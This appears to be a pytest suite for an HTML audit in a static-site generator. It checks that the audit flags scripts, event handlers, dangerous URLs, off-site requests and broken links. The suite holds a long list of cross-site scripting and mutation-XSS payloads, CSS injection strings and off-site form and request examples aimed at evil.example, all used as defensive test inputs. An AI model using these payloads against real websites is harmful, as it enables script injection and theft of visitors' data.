"""The last gate: what it refuses, what it lets pass, and that its fast reader never knows better than the parser."""

from __future__ import annotations

from dataclasses import replace
from hashlib import sha256
from typing import TYPE_CHECKING

import pytest
import sample_frames
from html_judge import parse_errors
from hypothesis import given
from hypothesis import strategies as st

from jendela import pour
from jendela.audit import RULES, Audit, Seen
from jendela.audit.addresses import Site
from jendela.audit.judge import Facts, Judge
from jendela.audit.markup import is_tangled, readings
from jendela.audit.plain import PlainReader
from jendela.places import Place
from jendela.pour import SiteAddress
from jendela.problems import Problem, Severity

if TYPE_CHECKING:
    from collections.abc import Iterable

FRAME_SCRIPT = "__scope=new URL('.',location);if(1<2&&3>2){document}"
FRAME_STYLE = "@import url(https://fonts.example/x.css);"
ALLOWED = {sha256(text.encode()).hexdigest() for text in (FRAME_SCRIPT, FRAME_STYLE)}
FILES = {"assets/app.js", "assets/site.css", "assets/gambar besar.png", "assets/icons.svg", "assets/buku.pdf"}
ORIGIN = "https://example.go.id"
URL = "layanan/akta/"


def page(body: str = "", head: str = "", html: str = '<html lang="id">', h1: str = "<h1>Akta</h1>") -> str:
    return (
        f'<!doctype html>\n{html}<head><meta charset="utf-8"><title>Akta &amp; kartu</title>{head}</head>'
        f'<body><header><svg viewBox="0 0 24 24"><path d="M0 0h1v1"/></svg></header>'
        f"<main>{h1}\n{body}</main></body></html>"
    )


def judge(html: str, *, url: str = URL, parser_only: bool = False) -> list[Problem]:
    audit = Audit(FILES, ORIGIN, "/jendela/", ALLOWED)
    if parser_only:
        audit._plain.read = lambda *_: None  # type: ignore[method-assign]
    audit.page("", page("<p id='atas'>"), ())
    audit.page("layanan/", page('<h2 id="daftar">Daftar</h2><a name="lama">x</a>'), ())
    audit.page(url, html, (Place("registry/services/akta.yaml", "/name"),))
    return audit.finish()


def rules(problems: Iterable[Problem]) -> set[str]:
    return {problem.rule for problem in problems}


HOSTILE = [
    ("site-script", "<script>alert(1)</script>"),
    ("site-script", "<SCRIPT>alert(1)</SCRIPT>"),
    ("site-script", "<script >alert(1)</script >"),
    ("site-script", "<script type=module>alert(1)</script>"),
    ("site-script", '<script type="importmap">{"imports":{}}</script>'),
    ("site-script", '<script type="speculationrules">{}</script>'),
    ("site-script", '<script src="//evil.example/x.js"></script>'),
    ("site-script", '<script src="https://evil.example/x.js"></script>'),
    ("site-script", '<script src="../../assets/other.js"></script>'),
    ("site-script", '<script src=""></script>'),
    ("site-url", '<script src="data:text/javascript,alert(1)"></script>'),
    ("site-script", '<script type="application/ld+json">{"a": }</script>'),
    ("site-script", '<script type="application/json">' + "[" * 100_000 + "</script>"),
    ("site-script", "<svg><script>alert&lpar;1)</script></svg>"),
    ("site-script", '<svg><script href="https://evil.example/x.js"/></svg>'),
    ("site-script", '<svg><script xlink:href="https://evil.example/x.js"/></svg>'),
    ("site-script", f"<script>{FRAME_SCRIPT} </script>"),
    ("site-script", "<p title='</p><script>alert(1)</script>'></p><script>x</script>"),
    ("site-script", "<textarea></textarea><script>1</script>"),
    ("site-script", "<!--><script>alert(1)</script>-->"),
    ("site-script", "<!-- --!><script>alert(1)</script>-->"),
    ("site-handler", "<p onclick=alert(1)>x</p>"),
    ("site-handler", '<p onclick="alert(1)">x</p>'),
    ("site-handler", '<p ONCLICK="alert(1)">x</p>'),
    ("site-handler", "<p/onclick=alert(1)>x</p>"),
    ("site-handler", '<img src="x"onerror="alert(1)">'),
    ("site-handler", '<svg onload="alert(1)"></svg>'),
    ("site-handler", '<svg><g onbegin="alert(1)"></g></svg>'),
    ("site-handler", '<details open ontoggle="x"></details>'),
    ("site-handler", '<p onanything="x"></p>'),
    ("site-handler", '</main><body onload="alert(1)">'),
    ("site-handler", "<p title='\"' onclick='x'>"),
    ("site-handler", '<p title="a > b" onclick="x"></p>'),
    ("site-handler", '<svg><style><img src=x onerror="alert(1)"></style></svg>'),
    ("site-handler", '<math><mtext><p onclick="x"></p></mtext></math>'),
    ("site-handler", '<title><script type="application/json">"</title><img src=x onerror=alert(1)>"</script>'),
    (
        "site-handler",
        '<svg><desc><g></svg></g></desc><script type="application/json">"<img src=x onerror=alert(1)>"</script>',
    ),
    ("site-handler", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'),
    ("site-handler", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></p>'),
    ("site-handler", '<!-- a --><img src=x onerror="1"><!-- b -->'),
    ("site-url", '<a href="javascript:alert(1)">x</a>'),
    ("site-url", '<a href=" JaVaScRiPt:alert(1)">x</a>'),
    ("site-url", '<a href="java\nscript:alert(1)">x</a>'),
    ("site-url", '<a href="java&#9;script:alert(1)">x</a>'),
    ("site-url", '<a href="javascript&colon;alert(1)">x</a>'),
    ("site-url", '<a href="&#1;javascript:alert(1)">x</a>'),
    ("site-url", '<a href="vbscript:x">x</a>'),
    ("site-url", '<a href="data:text/html,x">x</a>'),
    ("site-url", '<a href="file:///etc/passwd">x</a>'),
    ("site-url", '<a href="blob:https://x.example/1">x</a>'),
    ("site-url", '<a href="https:///x">x</a>'),
    ("site-url", '<a href="https:x">x</a>'),
    ("site-url", '<a href="https://example.go.id@evil.example/">x</a>'),
    ("site-url", '<area href="javascript:1">'),
    ("site-url", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("site-url", '<form action="javascript:alert(1)"></form>'),
    ("site-url", '<button formaction="javascript:alert(1)">x</button>'),
    ("site-url", '<img src="data:image/png;base64,AAAA">'),
    ("site-url", '<img srcset="../../assets/gambar%20besar.png 1x, data:image/png,x 2x">'),
    ("site-url", '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">'),
    ("site-url", '<meta http-equiv="Refresh" content="0;data:text/html,x">'),
    ("site-url", '<blockquote cite="javascript:1">x</blockquote>'),
    ("site-style", '<p style="background: ex/**/pression(alert(1))">x</p>'),
    ("site-style", '<p style="behavior: url(x.htc)">x</p>'),
    ("site-style", '<p style="-moz-binding:url(x)">x</p>'),
    ("site-style", '<p style="background:\\75rl(//evil.example)">x</p>'),
    ("site-style", "<p style=\"background:image-set('https://evil.example/x' 1x)\">x</p>"),
    ("site-style", "<style>@import 'https://evil.example/x.css'</style>"),
    ("site-style", "<style>@import 'x.css'</style>"),
    ("site-request", "<style>p{background:url(//evil.example/x)}</style>"),
    ("site-request", "<style>p::before{content:'/*';background:url(//evil.example/x);content:'*/'}</style>"),
    ("site-request", "<p style=\"background:url( 'https://evil.example/x' )\">x</p>"),
    ("site-request", '<svg><path d="M0" fill="url(https://evil.example/x#y)"/></svg>'),
    ("site-base", '<base href="https://evil.example/">'),
    ("site-base", '<base target="x">'),
    ("site-embed", '<iframe src="../../layanan/"></iframe>'),
    ("site-embed", '<iframe srcdoc="x"></iframe>'),
    ("site-embed", "<object data=x></object>"),
    ("site-embed", "<embed src=x>"),
    ("site-embed", "<applet></applet>"),
    ("site-embed", "<template><p onclick=x></p></template>"),
    ("site-embed", '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>'),
    ("site-embed", '<svg><set attributeName="onclick" to="alert(1)"/></svg>'),
    ("site-embed", "<plaintext>"),
    ("site-form", '<form action="https://evil.example/"><input name="nik"></form>'),
    ("site-form", '<input type="submit" formaction="//evil.example/">'),
    ("site-request", '<img src="https://evil.example/x.png">'),
    ("site-request", '<img src="//evil.example/x.png">'),
    ("site-request", '<img src="\\\\evil.example/x.png">'),
    ("site-request", '<img src="/\\evil.example/x.png">'),
    ("site-request", '<img src="\t//evil.example/x.png">'),
    ("site-request", '<img srcset="https://evil.example/x.png 2x">'),
    ("site-request", '<img src="https://example.go.id.evil.example/x.png">'),
    ("site-request", '<video poster="https://evil.example/x"></video>'),
    ("site-request", '<audio src="https://evil.example/x"></audio>'),
    ("site-request", '<video><source src="https://evil.example/x"><track src="https://evil.example/y"></video>'),
    ("site-request", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("site-request", '<link rel="alternate stylesheet" href="https://evil.example/x.css">'),
    ("site-request", '<link rel="preload" as="font" href="https://evil.example/x">'),
    ("site-request", '<link rel="dns-prefetch" href="//evil.example">'),
    ("site-request", '<link rel="icon" href="https://evil.example/x">'),
    ("site-request", '<svg><use href="https://evil.example/x.svg#a"/></svg>'),
    ("site-request", '<svg><image xlink:href="https://evil.example/x"/></svg>'),
    ("site-request", '<table background="https://evil.example/x"></table>'),
    ("site-request", '<a href="https://x.example/" ping="https://evil.example/">x</a>'),
    ("site-request", '<input type="image" src="https://evil.example/x">'),
    ("site-request", '<meta http-equiv="refresh" content="3;URL=\'https://evil.example/\'">'),
    ("site-link", '<a href="../tidak-ada/">x</a>'),
    ("site-link", '<a href="../../layanan">x</a>'),
    ("site-link", '<a href="../../../lain/">x</a>'),
    ("site-link", '<a href="/layanan/">x</a>'),
    ("site-link", '<a href="/jendela">x</a>'),
    ("site-link", '<a href="https://example.go.id/jendela/tidak-ada/">x</a>'),
    ("site-link", '<link rel="canonical" href="https://example.go.id/jendela/tidak-ada/">'),
    ("site-link", '<a href="..%2f">x</a>'),
    ("site-link", '<a href="%ff%fe/">x</a>'),
    ("site-anchor", '<a href="#tidak-ada">x</a>'),
    ("site-anchor", '<a href="../#tidak-ada">x</a>'),
    ("site-anchor", '<a href="https://example.go.id/jendela/layanan/#tidak">x</a>'),
    ("site-asset", '<img src="../../assets/tidak-ada.png">'),
    ("site-asset", '<img src="">'),
    ("site-asset", '<img srcset="../../assets/tidak-ada.png 2x">'),
    ("site-asset", '<link rel="stylesheet" href="/assets/site.css">'),
    ("site-asset", '<p style="background:url(../../assets/tidak.png)">x</p>'),
    ("site-duplicate-id", '<p id="a"></p><p id="a"></p>'),
    ("site-heading-one", "<h1>Lagi</h1>"),
    ("site-heading-level", "<h3>Melompat</h3>"),
    ("site-new-window", '<a href="https://x.example/" target="_blank">x</a>'),
    ("site-new-window", '<a href="https://x.example/" target="lain" rel="nofollow">x</a>'),
]


@pytest.mark.parametrize("parser_only", [False, True], ids=["as-it-is", "parser"])
@pytest.mark.parametrize(("rule", "fragment"), HOSTILE, ids=range(len(HOSTILE)))
def test_what_is_hostile_or_broken_is_refused(rule: str, fragment: str, *, parser_only: bool) -> None:
    problems = judge(page(fragment), parser_only=parser_only)
    assert rule in rules(problems)
    assert all(problem.place.path == "registry/services/akta.yaml" for problem in problems)


FINE = [
    "",
    "<p>a &lt; b &amp; c > d “e” {{ f }} {% g %} ${h}</p>",
    '<p title="a > b &amp;lt;script&gt;">x</p>',
    "<p title='a \"b\"'>x</p>",
    "<p title=a>x</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1) onclick=x</p>",
    "<code>&lt;iframe src=//evil.example&gt;</code>",
    '<textarea><script>alert(1)</script><p onclick="x"></textarea>',
    '<!-- <script>alert(1)</script> <p onclick="x"> -->',
    f"<script>{FRAME_SCRIPT}</script>",
    f"<style>{FRAME_STYLE}</style>",
    '<script src="../../assets/app.js"></script>',
    '<script src="/jendela/assets/app.js?v=1" defer></script>',
    '<script type="application/ld+json">{"a": "<p onclick=x>&amp;\\u003c/script>"}</script>',
    '<script id="__config" type="application/json">{"base": "../.."}</script>',
    '<a href="https://x.example/jalan?a=1&amp;b=2#c">x</a>',
    '<a href="http://x.example">x</a>',
    '<a href="HTTPS://X.EXAMPLE:8443/">x</a>',
    '<a href="//x.example/">x</a>',
    '<a href="mailto:kantor@example.go.id">x</a><a href="tel:+62561000">x</a><a href="geo:0,109.3">x</a>',
    '<a href="sms:1234">x</a>',
    '<a href="https://example.go.id/">x</a><a href="https://example.go.id/lain/">x</a>',
    '<a href="">x</a><a href="#">x</a><a href="#top">x</a><a href="?q=1">x</a><a>x</a>',
    '<a href=".">x</a><a href="./">x</a><a href="..">x</a><a href="../">x</a><a href="../..">x</a>',
    '<a href="../../layanan/index.html">x</a><a href="/jendela/">x</a><a href="/jendela/index.html#atas">x</a>',
    '<a href="../%61kta/">x</a><a href="../x/../akta/">x</a><a href="%2e%2e/">x</a>',
    '<a href="../#daftar">x</a><a href="../#lama">x</a><a href="../?q#:~:text=x">x</a>',
    '<h2 id="bawa apa">x</h2><a href="#bawa%20apa">x</a>',
    '<a href="../../assets/buku.pdf#page=2">x</a>',
    '<a href="../" target="_self">x</a><a href="https://x.example/" target="_blank" rel="noopener nofollow">x</a>',
    '<img src="../../assets/gambar%20besar.png" srcset="../../assets/gambar%20besar.png 1.5x" alt="">',
    '<img src="https://example.go.id/jendela/assets/gambar%20besar.png" alt="">',
    '<svg role="img"><title>Judul</title><desc>Isi &amp; arti</desc><g id="g1"><path d="M0 0"/></g></svg>',
    '<svg><linearGradient id="warna"><stop offset="0"/></linearGradient><path fill="url(#warna)" d="M0"/></svg>',
    '<svg><use href="../../assets/icons.svg#rumah"/></svg><svg><symbol id="s"></symbol><use href="#s"/></svg>',
    '<svg><foreignObject><p title="x">x</p></foreignObject></svg>',
    "<math><mi>x</mi></math>",
    '<p style="color: red; /* catatan */ width: 3em">x</p>',
    '<p style="background: url(../../assets/gambar%20besar.png)">x</p>',
    "<style>p > a { color: red }</style>",
    '<form action=""><input name="q"></form><form><button>x</button></form><form action="../"></form>',
    '<link rel="canonical" href="https://example.go.id/jendela/layanan/akta/">',
    '<link rel="alternate " hreflang="en" href="../"><link rel="license" href="https://x.example/by">',
    '<link rel="stylesheet" href="../../assets/site.css">',
    '<meta http-equiv="refresh" content="0; url=../"><meta http-equiv="refresh" content="300">',
    "<h2>a</h2><h3>b</h3><h4>c</h4><h2>d</h2>",
    "<blockquote cite='https://x.example/'>x</blockquote>",
    "<noscript><p>Halaman ini juga berjalan tanpa skrip.</p></noscript>",
    "<select><option>a<option>b</select><ul><li>a<li>b</ul><table><tr><td>x</table>",
    "<p>\r\nx\r\n</p>",
    "<x-tab data-on='1'>x</x-tab>",
    "<p>\ufeff\u202e\x00x</p>",
]


@pytest.mark.parametrize("parser_only", [False, True], ids=["as-it-is", "parser"])
@pytest.mark.parametrize("fragment", FINE, ids=range(len(FINE)))
def test_what_is_strange_but_fine_stays_silent(fragment: str, *, parser_only: bool) -> None:
    assert judge(page(fragment), parser_only=parser_only) == []


def read_by_parser(html: str) -> list[Facts]:
    own = Judge(Site(ORIGIN, "/jendela/"), ALLOWED)
    return [own.facts(element) for reading in readings(html) for element in reading]


def plain_reader() -> PlainReader:
    site = Site(ORIGIN, "/jendela/")
    return PlainReader(site, Judge(site, ALLOWED))


def kept_from(plain: list[Facts] | None, html: str) -> None:
    """Assert that the parser finds nothing on a page that the plain reader did not tell."""
    if plain is None or any(facts.faults for facts in plain):
        return
    parsed = read_by_parser(html)
    assert [facts.faults for facts in parsed if facts.faults] == []
    assert {one for facts in parsed for one in facts.ids} <= {one for facts in plain for one in facts.ids}
    assert {one for facts in parsed for one in facts.references} <= {one for facts in plain for one in facts.references}


PIECES = [
    *(fragment for _, fragment in HOSTILE if len(fragment) < 500),
    *FINE,
    *("<", ">", '"', "'", "/", "=", "&", "!", "-", "--", "-->", "<!--", "<!", "</", "/>", "svg", "script", "style"),
    *("title", "textarea", "desc", "g", "p", "x"),
    *("<svg>", "</svg>", "<title>", "</title>", "<desc>", "</desc>", "<g>", "</g>", "<p>", "</p>", "</script>"),
    *('<a href="', '" onclick="x"', '"></a>', "<textarea>", "</textarea>", "<style>", "</style>", "<use ", "<SVG "),
    *('<script type="application/json">', '"<img src=x onerror=x>"', "</SCRIPT >", "<foreignObject>", "<math>"),
    *("<select>", "<table>", "<td>", "<b>", "</b>", "<noscript>", "</noscript>", "<![CDATA[", "]]>", "\n", " ", ";"),
]


# One reader for all examples: what it remembers from earlier pages must not mislead it on later ones.
WARM = plain_reader()


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_the_plain_reader_accepts_nothing_that_the_parser_refuses(fragment: str) -> None:
    for html in (page(fragment), page(fragment + fragment)):
        kept_from(WARM.read(html), html)


@pytest.mark.parametrize(
    ("harmless", "harmful"),
    [
        ("<titleyle>a</titleyle>", "<style><titleyle>@import 'x.css'</style>"),
        (
            """<script type="application/json">"</title><img src=x onerror=alert(1)>"</script>""",
            """<title><script type="application/json">"</title><img src=x onerror=alert(1)>"</script></title>""",
        ),
        ('<a href="" onclick>', '<a href="x" onclick>'),
        ('<p title="a">', '<p title="a"'),
    ],
)
def test_what_the_plain_reader_remembers_does_not_mislead_it(harmless: str, harmful: str) -> None:
    reader = plain_reader()
    for html in (page(harmless), page(harmful), page(harmless + harmful)):
        kept_from(reader.read(html), html)


@given(st.text(st.characters() | st.sampled_from("<>\"'/=&!- "), max_size=200))
def test_any_text_gets_an_answer(text: str) -> None:
    for html in (text, page(text)):
        assert all(problem.rule in {rule.id for rule in RULES} for problem in judge(html))


@pytest.mark.parametrize(
    ("rule", "html"),
    [
        ("site-language", page(html="<html>")),
        ("site-language", page(html='<html lang="">')),
        ("site-language", page(html='<html lang="id onclick">')),
        ("site-title", page().replace("Akta &amp; kartu", " \n")),
        ("site-title", page().replace("<title>Akta &amp; kartu</title>", "")),
        ("site-title", page().replace("<title>Akta &amp; kartu</title>", "<svg><title>x</title></svg>")),
        ("site-main", page().replace("main>", "div>")),
        ("site-heading-one", page(h1="")),
        ("site-heading-one", page(h1="<h2>x</h2>")),
        ("site-title", ""),
        ("site-tangled", page("<div onclick=x>" * 100_000)),
        ("site-tangled", page("".join(f"<font size={n}><p>" for n in range(3000)))),
        ("site-tangled", page("<a b=c " + " ".join(f"a{n}" for n in range(9000)) + ">")),
        ("site-tangled", page("<a " + "/".join(f"a{n}" for n in range(60_000)) + ">")),
    ],
)
def test_a_page_is_judged_as_a_whole(rule: str, html: str) -> None:
    assert rule in rules(judge(html))


def test_main_may_be_a_role() -> None:
    assert judge(page().replace("<main>", '<div role="main">').replace("</main>", "</div>")) == []


@pytest.mark.parametrize(
    "html",
    [
        page("<p>" + "a" * 2_000_000 + "</p>"),
        page("<ul>" + '<li><a href="../">x</a></li>' * 20_000 + "</ul>"),
        page("<div>" * 5000 + "</div>" * 5000),
    ],
    ids=["long", "many", "deep"],
)
def test_a_plain_page_may_be_large(html: str) -> None:
    assert judge(html) == []


def test_a_fault_on_a_large_plain_page_is_named_and_not_lost() -> None:
    html = page("<p>x</p>" * 100_000 + '<p onclick="x">x</p><a href="javascript:1">x</a>')
    assert is_tangled(html)
    assert rules(judge(html)) == {"site-handler", "site-url"}


@pytest.mark.parametrize(
    "text",
    [
        "<svg " * 100_000,
        "<script" * 100_000,
        "<!--" * 100_000,
        "<!-- x" * 100_000,
        '<a b="' * 50_000,
        "<a " * 200_000,
        "<b " * 200_000,
        "<title>x" * 100_000,
        "<title>x</title>" * 100_000,
        "<style>" + "url(" * 100_000,
        "<style>url(" + " " * 400_000,
        "<style>" + "/*" * 200_000,
        '<p style="' + "url(" * 100_000 + '">',
        '<p style="' + "expression " * 40_000 + '">',
        '<meta http-equiv="refresh" content="' + " " * 400_000 + '">',
        '<img srcset="' + "a," * 200_000 + '">',
        '<a href="' + "../" * 100_000 + '">',
        "<div>" * 400 + "<table></div></table>" * 10_000,
    ],
    ids=range(18),
)
@pytest.mark.timeout(20)
def test_hostile_text_gets_its_answer_in_bounded_time(text: str) -> None:
    judge(page(text))
    assert judge(text)


def test_a_problem_tells_page_place_and_words() -> None:
    problem = next(iter(judge(page('<p><a\nhref="javascript:alert(1)">x</a></p>'))))
    assert problem.place == Place("registry/services/akta.yaml", "/name")
    assert problem.facts == {"url": "/layanan/akta/", "what": "a href", "excerpt": "javascript:alert(1)"}
    assert problem.severity is Severity.ERROR


def test_a_skipped_heading_level_only_asks() -> None:
    (problem,) = judge(page("<h2>a</h2><h4>b</h4>"))
    assert problem.severity is Severity.NOTICE
    assert (problem.facts["excerpt"], problem.facts["what"]) == ("<h2>", "<h4>")


def test_a_page_without_a_record_is_named_by_its_built_file() -> None:
    audit = Audit(FILES, ORIGIN, "/jendela/", ALLOWED)
    audit.page("tentang/", page("<h1>Lagi</h1>"))
    (problem,) = audit.finish()
    assert problem.place == Place("build/site/tentang/index.html")


def test_the_same_fault_on_many_pages_is_one_problem() -> None:
    audit = Audit(FILES, ORIGIN, "/jendela/", ALLOWED)
    for number in range(30):
        html = page('<p onclick="x"><p onclick="x"><a href="../tidak-ada/">x</a>')
        audit.page(f"layanan/{number}/", html, (Place(f"registry/services/{number}.yaml"),))
    link, handler = sorted(audit.finish(), key=lambda problem: problem.rule, reverse=True)
    for problem in (link, handler):
        assert problem.facts["pages"] == "30"
        assert problem.place.path == "registry/services/0.yaml"
        assert len(problem.related) == 5


def test_a_missing_slash_is_told() -> None:
    (problem,) = judge(page('<a href="../../layanan?a=1#daftar">x</a>'))
    assert problem.facts["with_slash"] == "../../layanan/?a=1#daftar"


def test_links_to_pages_that_come_later_are_fine() -> None:
    audit = Audit(set(), "", "/", set())
    audit.page("", page('<a href="b/">x</a><a href="b/#c">x</a><a href="b/index.html#c">x</a>'))
    audit.page("b/", page('<p id="c"><a href="..">x</a></p>'))
    assert audit.finish() == []


def test_a_file_that_is_no_judged_page_keeps_its_fragments() -> None:
    audit = Audit({"lama/index.html"}, "", "/", set())
    audit.page("", page('<a href="lama/#apa-saja">x</a>'))
    assert audit.finish() == []


def test_without_an_origin_every_host_is_another() -> None:
    audit = Audit(FILES, "", "/", set())
    audit.page(
        "", page('<a href="https://example.go.id/x/">x</a><img src="https://example.go.id/assets/app.js" alt="">')
    )
    assert rules(audit.finish()) == {"site-request"}


def test_the_page_for_missing_addresses_must_not_depend_on_where_it_is_shown() -> None:
    assert judge(page('<a href="/jendela/layanan/">x</a><a href="#a" id="a">x</a>'), url="404.html") == []
    assert rules(judge(page('<a href="layanan/">x</a>'), url="404.html")) == {"site-link"}
    assert rules(judge(page('<link rel="stylesheet" href="assets/site.css">'), url="404.html")) == {"site-asset"}


def test_references_resolve_from_a_file_beside_folders() -> None:
    assert judge(page('<a href="akta.html">x</a><a href="./">x</a>'), url="layanan/akta.html") == []


def test_a_hostile_page_is_cut_short() -> None:
    html = page("".join(f'<p on{number}="x">' for number in range(500)))
    assert len(judge(html)) == 100


def test_two_audits_of_the_same_pages_agree_to_the_byte() -> None:
    html = page("".join(fragment for _, fragment in HOSTILE if len(fragment) < 500))
    assert repr(judge(html)) == repr(judge(html))


def test_rules_have_unique_ids_and_one_sentence() -> None:
    assert len({rule.id for rule in RULES}) == len(RULES)
    assert all(rule.id.startswith("site-") and rule.sentence.endswith(".") for rule in RULES)


def test_the_pages_of_these_tests_are_strict_html() -> None:
    assert parse_errors(page("<p>a</p>")) == []


@pytest.mark.parametrize(
    "fragment", ["<p>&nosemicolon <b></p>", '<p id="a" id="b"></p>', "</p></div>", "<p", "<a b=c'd>x</a>"]
)
def test_the_strict_judgement_names_parse_errors(fragment: str) -> None:
    assert parse_errors(page(fragment))


def test_a_page_seen_before_still_needs_the_anchors_it_links_to() -> None:
    first = Audit({"b/index.html"}, "", "/", set())
    seen = first.page("", page('<p id="a"><a href="b/#c">x</a><a href="#a">x</a>'))
    assert seen == Seen(("a",), (("b/", "c"),))
    for body, expected in (('<p id="c"><a href="../#a">x</a>', set()), ("<p>", {"site-anchor"})):
        audit = Audit({"b/index.html"}, "", "/", set())
        audit.again("", seen, (Place("registry/a.yaml"),))
        audit.page("b/", page(body))
        assert rules(audit.finish()) == expected


FRAGMENTS = [text for _, text in HOSTILE]


@pytest.mark.parametrize("fragment", [*FRAGMENTS, "", "<p>a</p>", "<svg><path d='M0'/></svg>", "</main>", "<", "a>"])
def test_a_poured_page_is_judged_as_if_its_frame_were_its_own(fragment: str) -> None:
    frames, site = sample_frames.built(), SiteAddress(sample_frames.BASE)
    known = sample_frames.page("layanan/akta/")
    by_parts, whole = (
        Audit(frames.assets, "https://kota.example", "/jendela/", frames.inline_scripts()) for _ in range(2)
    )
    for body in ("<h1>a</h1>", f"<h1>b</h1>{fragment}", f"<h1>c</h1>{fragment}<p id='x'>"):
        parts = pour.parts(frames.frames, replace(known, body=body), site)
        assert by_parts.page(known.url, "".join(parts), (), parts) == whole.page(known.url, "".join(parts))
        assert by_parts.parsed == whole.parsed
    assert by_parts.finish() == whole.finish()
